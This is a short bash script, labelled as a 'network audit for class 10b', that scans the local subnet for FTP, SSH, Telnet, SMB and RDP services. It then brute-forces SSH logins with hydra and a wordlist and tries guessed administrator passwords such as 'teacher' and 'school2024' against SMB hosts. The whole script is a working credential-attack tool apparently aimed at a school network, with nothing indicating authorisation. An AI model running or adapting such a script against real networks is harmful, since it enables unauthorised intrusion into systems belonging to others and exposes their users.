#!/bin/bash
# network audit for class 10b :)
NET=$(ip -4 route | awk '/src/ {print $1; exit}')
echo "our network is $NET"
nmap -sS -p 21,22,23,445,3389 -T4 --open -oG scan.txt "$NET"
grep '22/open' scan.txt | awk '{print $2}' > ssh.txt
grep '445/open' scan.txt | awk '{print $2}' > smb.txt
hydra -L names.txt -P /usr/share/wordlists/fasttrack.txt -t 8 -M ssh.txt ssh -o found.txt
while read -r h; do
  for p in teacher Teacher1 school2024 admin; do
    smbclient -L "//$h" -U "administrator%$p" 2>/dev/null && echo "$h $p" >> found.txt
  done
done < smb.txt
cat found.txt
